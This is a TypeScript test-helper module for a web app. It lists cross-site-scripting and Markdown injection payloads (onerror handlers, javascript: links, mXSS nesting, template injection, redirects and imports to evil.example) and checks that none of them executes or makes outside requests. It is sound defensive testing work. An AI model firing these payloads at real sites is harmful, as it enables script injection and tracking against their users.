/** Texts that would come to life wherever a page takes them for more than texts, and how to see that none did. */

import { expect } from 'bun:test';
import type { Page } from 'playwright-core';
import type { WatchedPage } from '../harness/browser.ts';
import type { RunningWeir } from '../harness/weir.ts';

/** Each would set `struck` if anything of it came to life. */
export const strike = 'window.struck=1';
export const corpus = [
  `<img src=x onerror="${strike}">`,
  `<script>${strike}</script>`,
  `<svg/onload=${strike}>`,
  `"><script>${strike}</script>`,
  `'-(${strike})-'`,
  `<iframe srcdoc="<script>parent.${strike}</script>"></iframe>`,
  `<a href="javascript:${strike}">press</a>`,
  `<details open ontoggle=${strike}>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${strike}&gt;">`,
  `<form action="https://evil.example"><input type=submit></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<object data="javascript:${strike}"></object>`,
  `\${${strike}} {{constructor.constructor("${strike}")()}}`,
];
/** What only a reader of Markdown could bring to life. */
export const markdown = [
  `[press](javascript:${strike})`,
  `[press](jav&#x09;ascript:${strike})`,
  `[press](data:text/html,<script>${strike}</script>)`,
  `![picture](https://evil.example/tracked.png)`,
  `![x](javascript:${strike})`,
  `<https://evil.example/"onmouseover="${strike}>`,
  '```html\n<script>' + strike + '</script>\n```',
  `| a |\n| --- |\n| <img src=x onerror=${strike}> |`,
  `[ref]: javascript:${strike}\n[press][ref]`,
];
/** Where blanks are not allowed. */
export const hostileName = `<img/src=x/onerror=${strike}>`;

/** Nothing ran, nobody else was asked, the policy had nothing to stop, and the text is there as text. */
export async function expectUnharmed(
  weir: RunningWeir,
  { page, complaints, requested }: WatchedPage,
  text?: string,
): Promise<void> {
  if (text !== undefined) await page.getByText(text).filter({ visible: true }).first().waitFor();
  const { struck, tooWidePx } = await page.evaluate(() => ({
    struck: (window as { struck?: number }).struck,
    tooWidePx: document.documentElement.scrollWidth - innerWidth,
  }));
  expect(struck).toBeUndefined();
  // Long texts break inside their place: the page itself never scrolls sideways.
  expect(tooWidePx).toBeLessThanOrEqual(0);
  expect(complaints.filter((complaint) => /policy|refused|evil/i.test(complaint))).toEqual([]);
  const own = new RegExp(`^(${weir.url}/|${weir.url.replace('http', 'ws')}/|data:|blob:)`);
  expect(requested.filter((url) => !own.test(url))).toEqual([]);
}

/** A link may lie in wait for a press: none leads to a script, or to a page made of someone's text. */
export async function harmlessLinks(page: Page): Promise<void> {
  const links = await page
    .locator('a[href]')
    .evaluateAll((all) =>
      all.map((link) => ({ href: link.getAttribute('href') ?? '', isKept: link.hasAttribute('download') })),
    );
  for (const { href, isKept } of links) {
    expect(href).toMatch(
      isKept ? /^(\/|blob:http|data:image\/(png|jpeg|webp|gif|avif)[;,])/ : /^(https?:|mailto:|[/#?])/,
    );
  }
  const types = await page.evaluate(() => (window as { heldTypes?: string[] }).heldTypes ?? []);
  for (const type of types) {
    expect(type).toMatch(/^(image\/(png|jpeg|webp|gif|avif)|audio\/|video\/|application\/octet-stream$)/);
  }
}

/** Bytes that the page holds under an address: by its type a browser decides whether they could run. */
export async function watchHeldBytes(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const held: string[] = [];
    Object.assign(window, { heldTypes: held });
    const hold = URL.createObjectURL.bind(URL);
    URL.createObjectURL = (bytes: Blob | MediaSource) => {
      held.push(bytes instanceof Blob ? bytes.type : '');
      return hold(bytes);
    };
  });
}
